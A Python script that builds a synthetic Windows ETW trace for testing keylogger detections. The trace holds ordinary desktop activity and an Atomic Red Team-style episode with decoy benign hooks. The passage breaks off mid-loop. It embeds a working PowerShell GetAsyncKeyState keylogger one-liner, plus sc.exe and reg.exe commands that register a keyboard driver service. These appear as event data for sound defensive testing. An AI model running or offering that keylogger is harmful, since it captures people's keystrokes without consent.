"""Write examples/demo.jsonl.zst: a SYNTHETIC recording of one Windows workstation, ~10 minutes.

Nothing in it was captured from a real host. It is generated here, deterministically (fixed seed,
fixed start time), from the same providers, event names and field lists a real trace has
(providers/*.yaml): classic Process/Image/FileIo/Registry events plus Kernel-Process starts and
Kernel-Registry key and value events with CapturedData. The header's host name and device id say
"synthetic-demo" so rows made from it can never be mistaken for real telemetry.

Content: rundown of a booted desktop, then ordinary activity (explorer, browsers, Office, svchost,
Windows Update, prefetch, registry MRU writes, user32.dll loaded by many processes) and one
keylogger episode modelled on Atomic Red Team T1056.001:

* powershell.exe whose command line P/Invokes GetAsyncKeyState;
* keylog.txt written under the user's profile, and key.log (which the seed's ``has_any`` does
  not match: the negative case);
* a kbdhook service: ImagePath ``\\SystemRoot\\System32\\drivers\\kbdhook.sys`` written under
  ``…\\ControlSet001\\Services\\kbdhook`` (by services.exe) and ``…\\CurrentControlSet\\Services\\kbdhook``
  (by reg.exe; the only one the seed matches);
* a DirectInput keylogger in the user's Temp folder writing
  ``HKEY_CURRENT_USER\\<SID>\\Software\\Microsoft\\DirectInput\\MostRecentApplication`` values;
* keyboard capture as Microsoft-Windows-Win32k's API audit events report it (DeviceEvents): the
  PowerShell loop polling GetAsyncKeyState in the background, a low-level and a global keyboard hook
  from a dropper in AppData, raw keyboard input with RIDEV_INPUTSINK and no visible window — and the
  benign look-alikes that must stay quiet: an IME's global hook DLL and a screen reader's hook and
  raw-input sink under Program Files, a game polling keys and reading raw input while it has the focus.

Usage: python scripts/make_demo_trace.py [--out examples/demo.jsonl.zst]
"""

from __future__ import annotations

import argparse
import random
import struct
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from etwsensor.decode.schema import EventDef, ProviderDef, load_providers
from etwsensor.events import RawEvent
from etwsensor.sources.header import HostInfo, RecordingHeader
from etwsensor.sources.recording import write_recording

SEED = 1056001
START = datetime(2026, 11, 20, 9, 0, 0, tzinfo=UTC)
DURATION_S = 600
VOLUME = "\\Device\\HarddiskVolume3"
USER_SID = "S-1-5-21-3623811015-3361044348-30300820-1013"
USER = "alice"
HOME = f"C:\\Users\\{USER}"
HEADER = RecordingHeader(
    host=HostInfo(name="ws01.synthetic-demo.invalid", device_id="synthetic-demo-0001", os_build="10.0.22631"),
    device_map={VOLUME: "C:", "\\Device\\HarddiskVolume4": "D:"},
    system_root="C:\\Windows",
    sids={USER_SID: f"SYNTHETIC\\{USER}"},
    start=START,
    comment=f"SYNTHETIC: made by scripts/make_demo_trace.py (seed {SEED}); not captured from a real host",
)
LOW, MEDIUM, HIGH, SYSTEM = "S-1-16-4096", "S-1-16-8192", "S-1-16-12288", "S-1-16-16384"
DEFAULT, FULL, LIMITED = 1, 2, 3
REG_SZ, REG_EXPAND_SZ, REG_BINARY, REG_DWORD, REG_MULTI_SZ = 1, 2, 3, 4, 7
CREATE, OPEN, OPEN_IF, OVERWRITE_IF = 2, 1, 3, 5
SERVICING_STACK = (
    "amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.4170_none_6d4c1a0b3f8e6a4e"
)
GUI_DLLS = ("user32.dll", "gdi32.dll", "win32u.dll", "imm32.dll")
BASE_DLLS = ("ntdll.dll", "kernel32.dll", "KernelBase.dll", "ucrtbase.dll", "advapi32.dll")


def nt(dos_path: str) -> str:
    """C:\\x → \\Device\\HarddiskVolume3\\x (what the kernel logs)."""
    return VOLUME + dos_path[2:]


def utf16(text: str) -> bytes:
    return (text + "\0").encode("utf-16-le")


@dataclass
class Proc:
    pid: int
    path: str  # DOS path of the image
    cmd: str
    sid: str
    label: str
    elevation: int
    key: int  # classic UniqueProcessKey
    created: datetime
    gui: bool = False
    dlls: tuple[str, ...] = ()

    @property
    def name(self) -> str:
        return self.path.rsplit("\\", 1)[-1]


@dataclass
class Trace:
    """Builds RawEvents whose fields are exactly the provider data's fields for that version."""

    providers: dict[str, ProviderDef]
    rng: random.Random
    events: list[RawEvent] = field(default_factory=list)
    next_pointer: int = 0xFFFF_A000_0000_0000

    def pointer(self) -> int:
        self.next_pointer += self.rng.randrange(0x40, 0x400, 0x10)
        return self.next_pointer

    def add(self, provider: str, name: str, ts: datetime, pid: int, **fields: Any) -> None:
        prov = self.providers[provider]
        evd: EventDef = next(e for e in prov.events if e.name == name)
        vd = evd.versions[-1]
        known = {f.name: f.type for f in vd.fields}
        unknown = set(fields) - set(known)
        if unknown:
            raise ValueError(f"{provider}/{name} v{vd.version} has no field(s) {sorted(unknown)}")
        values = {n: fields.get(n, _default(t, ts)) for n, t in known.items()}
        manifest = prov.kind == "manifest"
        self.events.append(
            RawEvent(
                guid=prov.guid,
                provider=prov.name,
                name=name,
                id=evd.id if manifest else None,
                opcode=None if manifest else evd.opcode,
                version=vd.version,
                ts=ts,
                pid=pid,
                tid=pid + 4,
                cpu=self.rng.randrange(4),
                fields=values,
            )
        )


def _default(wire_type: str, ts: datetime) -> Any:
    if wire_type in ("UnicodeString", "AnsiString", "SID", "TokenUser"):
        return ""
    if wire_type in ("FILETIME", "SYSTEMTIME"):
        return ts
    if wire_type == "Binary":
        return b""
    if wire_type == "GUID":
        return "00000000-0000-0000-0000-000000000000"
    if wire_type == "Boolean":
        return False
    return 0


class Host:
    """The simulated workstation: processes, open files and keys, and what each action logs."""

    def __init__(self, trace: Trace) -> None:
        self.t = trace
        self.rng = trace.rng
        self.procs: dict[int, Proc] = {}
        self.next_pid = 4000
        self.kcbs: dict[str, int] = {}

    # --- processes -----------------------------------------------------------------------------

    def rundown(self, proc: Proc, parent: int, ts: datetime) -> None:
        self.procs[proc.pid] = proc
        t = self.t
        t.add(
            "Process",
            "DCStart",
            ts,
            proc.pid,
            UniqueProcessKey=proc.key,
            ProcessId=proc.pid,
            ParentId=parent,
            SessionId=1 if proc.sid == USER_SID else 0,
            ExitStatus=259,
            UserSID=proc.sid,
            ImageFileName=proc.name,
            CommandLine=proc.cmd,
        )
        t.add(
            "Microsoft-Windows-Kernel-Process",
            "ProcessRundown",
            ts,
            proc.pid,
            ProcessID=proc.pid,
            CreateTime=proc.created,
            ParentProcessID=parent,
            SessionID=1 if proc.sid == USER_SID else 0,
            ProcessTokenElevationType=proc.elevation,
            MandatoryLabel=proc.label,
            ImageName=nt(proc.path),
        )
        for dll in (proc.name, *BASE_DLLS, *(GUI_DLLS if proc.gui else ())):
            path = proc.path if dll == proc.name else f"C:\\Windows\\System32\\{dll}"
            t.add(
                "Image",
                "DCStart",
                ts,
                proc.pid,
                ImageBase=t.pointer(),
                ImageSize=0x10000,
                ProcessId=proc.pid,
                FileName=nt(path),
            )

    def start(
        self,
        parent: Proc,
        path: str,
        cmd: str,
        ts: datetime,
        *,
        sid: str = USER_SID,
        label: str = MEDIUM,
        elevation: int = LIMITED,
        gui: bool = False,
        dlls: tuple[str, ...] = (),
    ) -> Proc:
        self.next_pid += 4 * self.rng.randrange(1, 40)
        proc = Proc(self.next_pid, path, cmd, sid, label, elevation, self.t.pointer(), ts, gui, dlls)
        self.procs[proc.pid] = proc
        t = self.t
        session = 1 if sid == USER_SID else 0
        # Kernel-Process logs the start in the parent's context, the classic class a moment later.
        t.add(
            "Microsoft-Windows-Kernel-Process",
            "ProcessStart",
            ts,
            parent.pid,
            ProcessID=proc.pid,
            CreateTime=ts,
            ParentProcessID=parent.pid,
            SessionID=session,
            ProcessTokenElevationType=elevation,
            ProcessTokenIsElevated=int(elevation == FULL),
            MandatoryLabel=label,
            ImageName=nt(path),
        )
        t.add(
            "Process",
            "Start",
            ts + timedelta(microseconds=180),
            proc.pid,
            UniqueProcessKey=proc.key,
            ProcessId=proc.pid,
            ParentId=parent.pid,
            SessionId=session,
            ExitStatus=259,
            UserSID=sid,
            ImageFileName=proc.name,
            CommandLine=cmd,
        )
        at = ts + timedelta(milliseconds=2)
        for dll in (proc.name, *BASE_DLLS, *(GUI_DLLS if gui else ()), *dlls):
            image = path if dll == proc.name else (dll if "\\" in dll else f"C:\\Windows\\System32\\{dll}")
            at += timedelta(microseconds=self.rng.randrange(200, 3000))
            t.add(
                "Image",
                "Load",
                at,
                proc.pid,
                ImageBase=t.pointer(),
                ImageSize=0x20000,
                ProcessId=proc.pid,
                FileName=nt(image),
            )
        return proc

    def end(self, proc: Proc, ts: datetime) -> None:
        self.t.add(
            "Process",
            "End",
            ts,
            proc.pid,
            UniqueProcessKey=proc.key,
            ProcessId=proc.pid,
            ExitStatus=0,
            UserSID=proc.sid,
            ImageFileName=proc.name,
            CommandLine=proc.cmd,
        )
        self.t.add(
            "Microsoft-Windows-Kernel-Process",
            "ProcessStop",
            ts,
            proc.pid,
            ProcessID=proc.pid,
            CreateTime=proc.created,
            ExitTime=ts,
            ImageName=proc.name,
        )

    # --- files (classic FileIo) ----------------------------------------------------------------

    def handle_event(self, name: str, proc: Proc, fo: int, ts: datetime) -> None:
        """A FileIo Cleanup or Close of the file object ``fo`` (FileKey = FileObject, as here)."""
        t = self.t
        t.add("FileIo", name, ts, proc.pid, IrpPtr=t.pointer(), FileObject=fo, FileKey=fo, TTID=proc.pid + 4)

    def write_file(
        self, proc: Proc, path: str, ts: datetime, disposition: int = CREATE, writes: int = 1
    ) -> None:
        t = self.t
        fo, irp = t.pointer(), t.pointer()
        t.add(
            "FileIo",
            "Create",
            ts,
            proc.pid,
            IrpPtr=irp,
            FileObject=fo,
            TTID=proc.pid + 4,
            CreateOptions=(disposition << 24) | 0x60,
            FileAttributes=0x80,
            ShareAccess=1,
            OpenPath=nt(path),
        )
        t.add("FileIo", "OperationEnd", ts + timedelta(microseconds=90), proc.pid, IrpPtr=irp, NtStatus=0)
        at = ts
        for i in range(writes):
            at += timedelta(milliseconds=self.rng.randrange(1, 400))
            t.add(
                "FileIo",
                "Write",
                at,
                proc.pid,
                Offset=i * 512,
                IrpPtr=t.pointer(),
                FileObject=fo,
                FileKey=fo,
                TTID=proc.pid + 4,
                IoSize=512,
                IoFlags=0,
            )
        self.handle_event("Cleanup", proc, fo, at + timedelta(milliseconds=1))
        self.handle_event("Close", proc, fo, at + timedelta(milliseconds=2))

    def open_file(self, proc: Proc, path: str, ts: datetime, options: int) -> int:
        """A FileIo Create opening an existing file (shared read/write/delete); its file object."""
        t = self.t
        fo = t.pointer()
        t.add(
            "FileIo",
            "Create",
            ts,
            proc.pid,
            IrpPtr=t.pointer(),
            FileObject=fo,
            TTID=proc.pid + 4,
            CreateOptions=(OPEN << 24) | options,
            FileAttributes=0x80,
            ShareAccess=7,
            OpenPath=nt(path),
        )
        return fo

    def read_file(self, proc: Proc, path: str, ts: datetime) -> None:
        fo = self.open_file(proc, path, ts, 0x60)
        self.handle_event("Close", proc, fo, ts + timedelta(milliseconds=3))

    def delete_file(self, proc: Proc, path: str, ts: datetime) -> None:
        fo = self.open_file(proc, path, ts, 0x1000)  # FILE_DELETE_ON_CLOSE
        self.handle_event("Cleanup", proc, fo, ts + timedelta(milliseconds=1))
        self.handle_event("Close", proc, fo, ts + timedelta(milliseconds=2))

    # --- registry (Kernel-Registry makes the rows; classic Registry feeds its KCB names) --------

    def set_values(
        self,
        proc: Proc,
        key: str,
        values: list[tuple[str, int, bytes]],
        ts: datetime,
        create: bool = False,
        new: bool = False,
    ) -> None:
        t = self.t
        ko = t.pointer()
        t.add(
            "Microsoft-Windows-Kernel-Registry",
            "CreateKey" if create else "OpenKey",
            ts,
            proc.pid,
            BaseObject=0,
            KeyObject=ko,
            Status=0,
            Disposition=1 if new else 2,
            BaseName="",
            RelativeName=key,
        )
        kcb = self.kcbs.get(key)
        if kcb is None:
            kcb = self.kcbs[key] = t.pointer()
            t.add("Registry", "KCBCreate", ts, proc.pid, KeyHandle=kcb, KeyName=key)
        at = ts
        for name, reg_type, data in values:
            at += timedelta(microseconds=self.rng.randrange(50, 900))
            t.add(
                "Microsoft-Windows-Kernel-Registry",
                "SetValueKey",
                at,
                proc.pid,
                KeyObject=ko,
                Status=0,
                Type=reg_type,
                DataSize=len(data),
                ValueName=name,
                CapturedDataSize=len(data),
                CapturedData=data,
            )
            t.add("Registry", "SetValue", at, proc.pid, KeyHandle=kcb, KeyName=name)
        t.add(
            "Microsoft-Windows-Kernel-Registry",
            "CloseKey",
            at + timedelta(microseconds=40),
            proc.pid,
            KeyObject=ko,
            Status=0,
        )


def sec(s: float) -> datetime:
    return START + timedelta(seconds=s)


def boot(host: Host) -> dict[str, Proc]:
    """The processes already running when the trace starts (rundown only: no ProcessCreated rows)."""
    booted = START - timedelta(hours=2)
    system = "S-1-5-18"
    table: list[tuple[str, int, int, str, str, str, str, int, bool]] = [
        (
            "smss",
            412,
            4,
            "C:\\Windows\\System32\\smss.exe",
            "\\SystemRoot\\System32\\smss.exe",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "csrss",
            560,
            540,
            "C:\\Windows\\System32\\csrss.exe",
            "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "wininit",
            640,
            540,
            "C:\\Windows\\System32\\wininit.exe",
            "wininit.exe",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "services",
            700,
            640,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "lsass",
            716,
            640,
            "C:\\Windows\\System32\\lsass.exe",
            "C:\\Windows\\system32\\lsass.exe",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "svchost_dcom",
            880,
            700,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "svchost_netsvcs",
            1040,
            700,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "svchost_sysmain",
            1344,
            700,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain",
            system,
            SYSTEM,
            DEFAULT,
            False,
        ),
        (
            "dwm",
            1100,
            640,
            "C:\\Windows\\System32\\dwm.exe",
            '"dwm.exe"',
            "S-1-5-90-0-1",
            SYSTEM,
            DEFAULT,
            True,
        ),
        (
            "explorer",
            2232,
            2200,
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            USER_SID,
            MEDIUM,
            LIMITED,
            True,
        ),
        (
            "onedrive",
            3100,
            2232,
            f"{HOME}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
            f'"{HOME}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
            USER_SID,
            MEDIUM,
            LIMITED,
            True,
        ),
    ]
    # The System process: classic rundown only, no image path (as real traces show it).
    kernel = Proc(4, "System", "", system, SYSTEM, DEFAULT, host.t.pointer(), booted)
    host.procs[4] = kernel
    host.t.add(
        "Process",
        "DCStart",
        START,
        4,
        UniqueProcessKey=kernel.key,
        ProcessId=4,
        ParentId=0,
        ExitStatus=259,
        UserSID=system,
        ImageFileName="System",
    )
    procs: dict[str, Proc] = {"system": kernel}
    for i, (tag, pid, parent, path, cmd, sid, label, elevation, gui) in enumerate(table):
        proc = Proc(
            pid, path, cmd, sid, label, elevation, host.t.pointer(), booted + timedelta(seconds=i), gui
        )
        host.rundown(proc, parent, START + timedelta(milliseconds=5 * i))
        procs[tag] = proc
    for key in (
        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services",
        f"\\REGISTRY\\USER\\{USER_SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer",
    ):
        kcb = host.kcbs[key] = host.t.pointer()
        host.t.add(
            "Registry", "KCBRundownEnd", START + timedelta(milliseconds=80), 4, KeyHandle=kcb, KeyName=key
        )
    return procs


def desktop_day(host: Host, procs: dict[str, Proc]) -> None:
    """Ordinary activity spread over the ten minutes."""
    rng = host.rng
    explorer, sysmain, netsvcs = procs["explorer"], procs["svchost_sysmain"], procs["svchost_netsvcs"]
    system = procs["system"]
    hkcu = f"\\REGISTRY\\USER\\{USER_SID}\\Software"
    apps = [
        (
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            '"{p}" --profile-directory=Default',
            ("C:\\Program Files\\Google\\Chrome\\Application\\chrome_elf.dll",),
        ),
        (
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
            '"{p}" --single-argument https://intranet.contoso.test/',
            ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge_elf.dll",),
        ),
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            '"{p}" /n "' + HOME + '\\Documents\\Q4 plan.docx"',
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\wwlib.dll",),
        ),
        (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
            '"{p}" "' + HOME + '\\Documents\\budget.xlsx"',
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\mso.dll",),
        ),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"{p}" ', ()),
        ("C:\\Windows\\System32\\notepad.exe", '"{p}" ' + HOME + "\\Desktop\\todo.txt", ()),
    ]
    for i in range(28):
        at = sec(5 + i * 20 + rng.random() * 10)
        path, cmd, dlls = apps[rng.randrange(len(apps))]
        app = host.start(explorer, path, cmd.format(p=path), at, gui=True, dlls=dlls)
        name = app.name.lower()
        work = at + timedelta(seconds=1)
        if name in ("chrome.exe", "msedge.exe"):
            for j in range(rng.randrange(1, 4)):
                renderer = host.start(
                    app,
                    path,
                    f'"{path}" --type=renderer --renderer-client-id={j + 5}',
                    work + timedelta(milliseconds=300 * j),
                    label=LOW,
                    gui=True,
                )
                host.end(renderer, work + timedelta(seconds=30 + j))
            cache = f"{HOME}\\AppData\\Local\\Temp\\{name[:-4]}_cache_{i:03d}.tmp"
            host.write_file(app, cache, work, OVERWRITE_IF, writes=rng.randrange(1, 5))
            download = f"{HOME}\\Downloads\\report-{i:02d}.pdf"
            if rng.random() < 0.3:
                host.write_file(app, download, work + timedelta(seconds=4), CREATE, writes=3)
        elif name in ("winword.exe", "excel.exe"):
            document = f"{HOME}\\Documents\\" + ("Q4 plan.docx" if name == "winword.exe" else "budget.xlsx")
            host.read_file(app, document, work)
            host.write_file(app, f"{HOME}\\Documents\\~${document.rsplit(chr(92), 1)[1][2:]}", work, CREATE)
            office_app = "Word" if name == "winword.exe" else "Excel"
            mru = f"{hkcu}\\Microsoft\\Office\\16.0\\{office_app}\\User MRU\\File MRU"
            host.set_values(
                app, mru, [("Item 1", REG_SZ, utf16(f"[F00000000][T01DB{i:04X}]*{document}"))], work
            )
        elif name == "outlook.exe":
            host.write_file(
                app,
                f"{HOME}\\AppData\\Local\\Microsoft\\Outlook\\{USER}@contoso.test.ost",
                work,
                OPEN,
                writes=6,
            )
        else:
            host.read_file(app, f"{HOME}\\Desktop\\todo.txt", work)
        recent = f"{hkcu}\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs"
        host.set_values(
            explorer,
            recent,
            [("MRUListEx", REG_BINARY, struct.pack("<3i", i, 0, -1))],
            work + timedelta(seconds=2),
        )
        prefetch = f"C:\\Windows\\Prefetch\\{app.name.upper()}-{rng.randrange(16**8):08X}.pf"
        host.write_file(system, prefetch, at + timedelta(seconds=10), OVERWRITE_IF)
        host.end(app, at + timedelta(seconds=rng.randrange(40, 200)))

    # Windows Update: UsoClient → TiWorker writes component files and servicing keys.
    for i in range(6):
        at = sec(30 + i * 95 + rng.random() * 20)
        worker = host.start(
            netsvcs,
            f"C:\\Windows\\WinSxS\\{SERVICING_STACK}\\TiWorker.exe",
            f"C:\\Windows\\winsxs\\{SERVICING_STACK}\\TiWorker.exe -Embedding",
            at,
            sid="S-1-5-18",
            label=SYSTEM,
            elevation=DEFAULT,
        )
        for j in range(3):
            host.write_file(
                worker,
                f"C:\\Windows\\SoftwareDistribution\\Download\\{rng.randrange(16**12):012x}\\update{j}.cab",
                at + timedelta(seconds=j),
                CREATE,
                writes=2,
            )
        host.set_values(
            worker,
            "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing",
            [("LastScavengeTime", 11, struct.pack("<Q", 133_700_000_000_000_000 + i))],
            at + timedelta(seconds=4),
        )
        host.end(worker, at + timedelta(seconds=40))

    # Background hosts: load user32.dll too (they are not on the seed's allow list).
    for i in range(10):
        at = sec(12 + i * 57 + rng.random() * 15)
        helper_path, helper_cmd = rng.choice(
            [
                (
                    "C:\\Windows\\System32\\backgroundTaskHost.exe",
                    '"{p}" -ServerName:BackgroundTaskHost.WebAccountProvider',
                ),
                ("C:\\Windows\\System32\\RuntimeBroker.exe", "{p} -Embedding"),
                (
                    "C:\\Windows\\System32\\SearchProtocolHost.exe",
                    '"{p}" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1',
                ),
            ]
        )
        helper = host.start(
            procs["svchost_dcom"], helper_path, helper_cmd.format(p=helper_path), at, gui=True
        )
        host.end(helper, at + timedelta(seconds=rng.randrange(5, 30)))
        host.read_file(sysmain, "C:\\Windows\\Prefetch\\Layout.ini", at + timedelta(seconds=2))


def keylogger_episode(host: Host, procs: dict[str, Proc]) -> None:
    """Atomic Red Team T1056.001-style keylogging, from about minute five."""
    explorer, services = procs["explorer"], procs["services"]
    temp = f"{HOME}\\AppData\\Local\\Temp"
    ps_path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    ps_cmd = (
        'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "$sig = \'[DllImport(\\"user32.dll\\")] '
        "public static extern short GetAsyncKeyState(int vKey);'; $api = Add-Type -MemberDefinition $sig "
        "-Name Keyboard -Namespace PsOneApi -PassThru; while ($true) { Start-Sleep -Milliseconds 40; "
        "for ($c = 8; $c -le 254; $c++) { if ($api::GetAsyncKeyState($c) -eq -32767) { "
        f'[char]$c | Out-File -Append {temp}\\keylog.txt }} }} }}"'
    )
    at = sec(300)
    ps = host.start(
        explorer,
        ps_path,
        ps_cmd,
        at,
        gui=True,
        dlls=(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules\\PSReadline\\Microsoft.PowerShell.PSReadLine.dll",
        ),
    )
    host.write_file(ps, f"{temp}\\keylog.txt", at + timedelta(seconds=3), OPEN_IF, writes=0)
    host.write_file(ps, f"{temp}\\keylog.txt", at + timedelta(seconds=3, milliseconds=5), CREATE, writes=12)
    host.write_file(ps, f"{temp}\\key.log", at + timedelta(seconds=9), CREATE, writes=4)

    # The driver and its service: sc.exe asks services.exe (which writes ControlSet001), then reg.exe
    # sets the same ImagePath through CurrentControlSet.
    driver = "C:\\Windows\\System32\\drivers\\kbdhook.sys"
    host.write_file(ps, driver, at + timedelta(seconds=20), CREATE, writes=2)
    sc = host.start(
        ps,
        "C:\\Windows\\System32\\sc.exe",
        '"C:\\Windows\\system32\\sc.exe" create kbdhook type= kernel start= demand '
        "binPath= System32\\drivers\\kbdhook.sys",
        at + timedelta(seconds=25),
        label=HIGH,
        elevation=FULL,
    )
    image_path = utf16("\\SystemRoot\\System32\\drivers\\kbdhook.sys")
    host.set_values(
        services,
        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\kbdhook",
        [
            ("Type", REG_DWORD, struct.pack("<I", 1)),
            ("Start", REG_DWORD, struct.pack("<I", 3)),
            ("ErrorControl", REG_DWORD, struct.pack("<I", 1)),
            ("ImagePath", REG_EXPAND_SZ, image_path),
            ("Description", REG_SZ, utf16("Keyboard filter helper")),
        ],
        at + timedelta(seconds=25, milliseconds=40),
        create=True,
        new=True,
    )
    host.end(sc, at + timedelta(seconds=26))
    reg = host.start(
        ps,
        "C:\\Windows\\System32\\reg.exe",
        "reg.exe add HKLM\\SYSTEM\\CurrentControlSet\\Services\\kbdhook /v ImagePath /t REG_EXPAND_SZ "
        "/d \\SystemRoot\\System32\\drivers\\kbdhook.sys /f",
        at + timedelta(seconds=30),
        label=HIGH,
        elevation=FULL,
    )
    host.set_values(
        reg,
        "\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Services\\kbdhook",
        [("ImagePath", REG_EXPAND_SZ, image_path)],
        at + timedelta(seconds=30, milliseconds=30),
        create=True,
    )
    host.end(reg, at + timedelta(seconds=31))

    # A DirectInput keylogger dropped in Temp: DirectInput records it as the most recent application.
    dropper = f"{temp}\\inputsvc.exe"
    host.write_file(ps, dropper, at + timedelta(seconds=40), CREATE, writes=3)
    logger = host.start(
        ps,
        dropper,
        f'"{dropper}" /silent',
        at + timedelta(seconds=45),
        gui=True,
        dlls=("dinput8.dll", "hid.dll"),
    )
    key = f"\\REGISTRY\\USER\\{USER_SID}\\Software\\Microsoft\\DirectInput\\MostRecentApplication"
    host.set_values(
        logger,
        key,
        [
            ("Version", REG_DWORD, struct.pack("<I", 0x800)),
            ("Name", REG_SZ, utf16("inputsvc.exe")),
            ("Id", REG_DWORD, struct.pack("<I", 0x6A1F32C0)),
        ],
        at + timedelta(seconds=46),
        create=True,
        new=True,
    )
    host.write_file(
        logger,
        f"{HOME}\\AppData\\Roaming\\Microsoft\\Windows\\inputcache.dat",
        at + timedelta(seconds=60),
        CREATE,
        writes=20,
    )
    host.end(logger, sec(DURATION_S - 5))
    host.end(ps, sec(DURATION_S - 4))


WIN32K = "Microsoft-Windows-Win32k"
WH_KEYBOARD, WH_KEYBOARD_LL = 2, 13
RIDEV_INPUTSINK = 0x100


def _raw_input(
    host: Host, proc: Proc, ts: datetime, usage: int, flags: int, windows: int, visible: int
) -> None:
    """RegisterRawInputDevices (Win32k 1001) for one HID device of the Generic Desktop page."""
    host.t.add(WIN32K, "RegisterRawInputDevices", ts, proc.pid, ReturnValue=1, UsagePage=1, Usage=usage,
               Flags=flags, hwndTarget=0x1_0000 + proc.pid, ThreadStartAddress=0x7FF7_1000_0000 + proc.pid,
               ThreadId=proc.pid + 4, cWindows=windows, cVisWindows=visible, ProcessId=proc.pid,
               ProcessCreateTime=proc.created, ProcessStartKey=0x2_0000_0000 + proc.pid,
               ThreadStartAddressMappedModuleName=nt(proc.path))  # fmt: skip


def _hook(host: Host, proc: Proc, ts: datetime, filter_type: int, library: str = "") -> None:
    """SetWindowsHookEx (Win32k 1002), successful: ReturnValue is the HHOOK."""
    host.t.add(WIN32K, "SetWindowsHookEx", ts, proc.pid, FilterType=filter_type, pstrLib=library,
               hmod=0x7FF8_0000_0000 if library else 0, pfnFilterProc=0x7FF8_0000_1230,
               ReturnValue=0x2_0000 + host.rng.randrange(0x10, 0xFFF0, 2))  # fmt: skip


def key_capture_episodes(host: Host, procs: dict[str, Proc]) -> None:
    """Keyboard capture as Win32k's API audit events (1001-1003) report it, and benign look-alikes.

    Keyloggers: the PowerShell loop of the episode above polling GetAsyncKeyState in the background;
    a low-level keyboard hook and a global hook DLL from a dropper in the user's AppData; the Temp
    DirectInput logger also registering the keyboard for raw input with RIDEV_INPUTSINK and no visible
    window. Benign: an IME with a global hook DLL under Program Files, a screen reader (low-level hook,
    raw-input sink with its window shown), and a game polling keys and reading raw input while it has
    the focus. The user types in bursts; every key event makes Win32k report each fast poller.
    """
    explorer = procs["explorer"]
    ps = next(p for p in host.procs.values() if "GetAsyncKeyState" in p.cmd)
    logger = next(p for p in host.procs.values() if p.name == "inputsvc.exe")
    ime_exe = "C:\\Program Files\\Contoso IME\\ContosoIme.exe"
    ime = host.start(explorer, ime_exe, f'"{ime_exe}" -tray', sec(308), gui=True)
    _hook(host, ime, sec(308.4), WH_KEYBOARD, "C:\\Program Files\\Contoso IME\\imehook64.dll")
    reader_exe = "C:\\Program Files\\Contoso Access\\ScreenReader.exe"
    reader = host.start(explorer, reader_exe, f'"{reader_exe}"', sec(312), gui=True)
    _hook(host, reader, sec(312.5), WH_KEYBOARD_LL)
    _raw_input(host, reader, sec(312.6), 6, RIDEV_INPUTSINK, windows=2, visible=1)

    _raw_input(host, logger, sec(346.5), 6, RIDEV_INPUTSINK, windows=1, visible=0)  # raw-input keylogger

    helper_dir = f"{HOME}\\AppData\\Roaming\\SysHelper"
    host.write_file(ps, f"{helper_dir}\\syshelper.exe", sec(370), CREATE, writes=4)
    host.write_file(ps, f"{helper_dir}\\kbhook.dll", sec(370.5), CREATE, writes=2)
    helper_exe = f"{helper_dir}\\syshelper.exe"
    helper = host.start(ps, helper_exe, f'"{helper_exe}" -k', sec(372), gui=True)
    _hook(host, helper, sec(372.3), WH_KEYBOARD_LL)  # hooking keylogger
    _hook(host, helper, sec(372.4), WH_KEYBOARD, f"{helper_dir}\\kbhook.dll")

    game = host.start(explorer, "C:\\Program Files (x86)\\Steam\\steamapps\\common\\Arena\\arena.exe",
                      '"C:\\Program Files (x86)\\Steam\\steamapps\\common\\Arena\\arena.exe" -windowed',
                      sec(420), gui=True)  # fmt: skip
    _raw_input(host, game, sec(421), 6, 0, windows=1, visible=1)
    _raw_input(host, game, sec(421.01), 2, 0, windows=1, visible=1)

    # Typing bursts: office work from 305 s, the game from 430 s to 520 s, office again until 580 s.
    t, rng = 305.0, host.rng
    while t < 580.0:
        gap = rng.uniform(0.12, 0.45) if rng.random() > 0.08 else rng.uniform(1.5, 6.0)
        t += gap
        playing = 430.0 <= t < 520.0
        gap_ms = int(gap * 1000)
